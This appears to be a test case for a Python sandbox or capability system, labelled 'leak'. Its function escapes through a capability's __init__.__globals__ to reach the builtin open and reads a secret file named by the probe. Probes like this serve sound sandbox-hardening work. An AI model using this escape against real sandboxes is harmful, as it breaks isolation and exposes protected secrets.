# effect: leak
# note: the capability call's own class
def attempt(probe):
    inside = call.__init__.__globals__
    builtins = inside["__builtins__"]
    opener = builtins["open"] if type(builtins) is dict else builtins.open
    return opener(probe["secret_file"]).read()
